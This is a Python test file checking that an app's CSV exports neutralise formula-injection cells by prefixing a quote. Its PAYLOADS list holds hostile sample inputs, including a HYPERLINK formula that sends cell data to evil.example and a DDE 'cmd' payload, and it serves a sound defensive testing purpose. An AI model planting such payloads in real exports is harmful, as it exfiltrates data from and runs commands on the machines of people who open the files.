"""Issue 10: CSV cells that begin with = + - @ tab or CR are neutralised in every export."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from app.domain.records.exports import HitRecord, HitStepRecord
from app.domain.records.search import ReadSummary
from app.services.csv_export import csv_bytes, safe_cell
from app.services.evidence_export import hits_csv, reads_csv

T = datetime(2026, 11, 2, 14, tzinfo=UTC)
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
            "-2+3", "\t=1+1", "\r=1+1"]


def _cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode())) for c in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_written_as_text(payload):
    assert safe_cell(payload) == "'" + payload
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in _cells(csv_bytes(["a"], [[payload]])))


def test_numbers_and_plain_text_are_unchanged():
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell("ABC123") == "ABC123"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_evidence_export_csvs_neutralise_every_cell(payload):
    read = ReadSummary(1, T, payload, payload, payload, 0.9, 1, payload)
    step = HitStepRecord(1, T, payload, "note", payload, None)
    hit = HitRecord(1, 1, T, T, payload, payload, payload, 1, payload, payload, payload, (step,))
    for data in (reads_csv([read]), hits_csv([hit])):
        cells = _cells(data)
        assert "'" + payload in cells
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_no_csv_writer_outside_the_safe_helper():
    """A new export must go through app.services.csv_export, not a bare csv.writer."""
    root = Path(__file__).resolve().parents[2] / "app"
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if "csv.writer(" in p.read_text() or "DictWriter(" in p.read_text()]
    assert offenders == ["services/csv_export.py"]
